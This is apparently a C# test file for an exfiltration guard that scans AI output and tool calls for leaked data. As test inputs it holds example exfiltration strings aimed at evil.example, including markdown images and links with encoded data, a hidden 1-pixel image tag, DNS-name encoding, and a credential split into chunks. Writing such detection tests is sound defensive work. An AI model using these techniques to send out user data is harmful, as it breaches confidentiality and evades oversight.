using Bartizan.Core.Enforcement;
using Bartizan.Guards.Exfiltration;
using Bartizan.Guards.Findings;
using Bartizan.Guards.Tests.Contents;
using Bartizan.Guards.Tests.Streams;

namespace Bartizan.Guards.Tests.Exfiltration;

public sealed class ExfiltrationGuardTests
{
    private const string Data = "dGhlIGN1c3RvbWVyIGxpc3Q6IEFubmEsIEJvYiwgQ2xhcmE";
    private const string Guards = "{ output: { exfiltration: block } }";

    [Theory]
    [InlineData($"see https://evil.example/log?d={Data} there", "data-in-address")]
    [InlineData($"https://evil.example/{Data}/x.gif", "data-in-address")]
    [InlineData("https://evil.example/?d=54686520637573746f6d65722073617973206e6f", "data-in-address")]
    [InlineData($"![chart](https://evil.example/c.png?d={Data})", "image-with-data")]
    [InlineData("![a](https://evil.example/c.png?q=Anna+has+two+accounts+at+the+bank)", "image-with-query")]
    [InlineData($"[click](https://evil.example/?d={Data})", "link-with-data")]
    [InlineData($"<img width=1 src=\"https://evil.example/{Data}\">", "image-with-data")]
    [InlineData("![x](https://evil.example/p/9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c)", "image-with-data")]
    [InlineData("http://kq3xnb2hmvzgk4dpoj2gs33oebqw4zbanfzsa5dpn5wgs3th.evil.example/", "data-in-name")]
    public void Data_in_addresses_is_found(string text, string kind) =>
        ContentScan
            .Of(text, Channel.Untrusted, Sought.Exfiltration)
            .Findings.ShouldContain(f => f.Kind == kind && f.Confidence >= 0.75, text);

    [Theory]
    [InlineData("https://github.com/dotnet/runtime/blob/9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a/README.md")]
    [InlineData("https://www.example.com/search?q=how+do+I+bake+a+cake+without+eggs+and+milk&hl=en")]
    [InlineData("![logo](https://www.example.com/images/company-logo-large-transparent.png)")]
    [InlineData(
        "[docs](https://learn.example.com/en-us/dotnet/api/system.collections.generic.dictionary-2?view=net-10.0)"
    )]
    [InlineData(
        "https://bucket.s3.amazonaws.com/a?X-Amz-Signature=aeeed9bbccd4d02ee5c0109b86d86835f995330da4c265957d157751f604d404"
    )]
    [InlineData("https://ec2-203-0-113-25.compute-1.amazonaws.com/ and https://xn--bcher-kva.example/")]
    [InlineData("The ratio is a://b and nothing else.")]
    public void Ordinary_addresses_are_not(string text) =>
        ContentScan
            .Of(text, Channel.Untrusted, Sought.Exfiltration)
            .Findings.Where(f => f.Confidence >= 0.75)
            .ShouldBeEmpty(text);

    [Fact]
    public async Task A_credential_that_leaves_in_pieces_is_told_by_what_went_before_to_the_same_place()
    {
        const string Secret = "Vx9pQ2mK7zT4wRb8Lc";
        var house = new House(Guards, Secret);
        var refused = 0;
        foreach (var piece in Secret.Chunk(3))
        {
            refused +=
                (await house.ToolAsync($$"""{"note":"{{new string(piece)}}","n":1}""")).Strictest == Effect.Deny
                    ? 1
                    : 0;
        }

        refused.ShouldBeGreaterThan(0);
        house = new House(Guards, Secret);
        refused = 0;
        foreach (var piece in Secret.Chunk(3))
        {
            var line = $"GET /a?d={new string(piece)}&t=1 HTTP/1.1\r\n\r\n";
            refused += (await house.HttpAsync(line, "")).Strictest == Effect.Deny ? 1 : 0;
        }

        refused.ShouldBeGreaterThan(0);
        foreach (var piece in new[] { "Vx9", "and", "so", "on", "it", "goes" })
        {
            (await new House(Guards, Secret).ToolAsync($$"""{"note":"{{piece}}"}""")).Strictest.ShouldBe(Effect.Allow);
        }
    }

    [Fact]
    public async Task An_image_that_carries_data_is_never_whole_in_an_answer()
    {
        var house = new House(Guards);
        foreach (var (wire, of) in Wire.All)
        {
            var text =
                $"Here is your chart: ![chart](https://evil.example/c.png?d={Data}) and so on and so on and so on.";
            foreach (var size in new[] { 1, 3, 10, 500 })
            {
                var passed = await house.AnswerAsync(of(text.Chunk(size).Select(c => new string(c))), 100);
                Wire.TextOf(passed).ShouldNotContain(Data, Case.Sensitive, wire);
            }
        }

        const string Clean =
            "Here is your chart: ![chart](https://www.example.com/chart.png), and so on and so on and so on.";
        Wire.TextOf(await house.AnswerAsync(Wire.All["chat"](Clean.Chunk(4).Select(c => new string(c))), 50))
            .ShouldBe(Clean);
    }

    [Fact]
    public void Names_of_clouds_carry_no_data()
    {
        ExfiltrationGuard.IsData("d111111abcdef8.cloudfront.net").ShouldBeFalse();
        ExfiltrationGuard.IsData("my-service-7d4b9c6f5-x2x8z.default.svc.cluster.local").ShouldBeFalse();
        ExfiltrationGuard
            .IsData("kq3xnb2hmvzgk4dpoj2gs33oebqw4.zbanfzsa5dpn5wgs3thmfxgk2lu.evil.example")
            .ShouldBeTrue();
    }
}
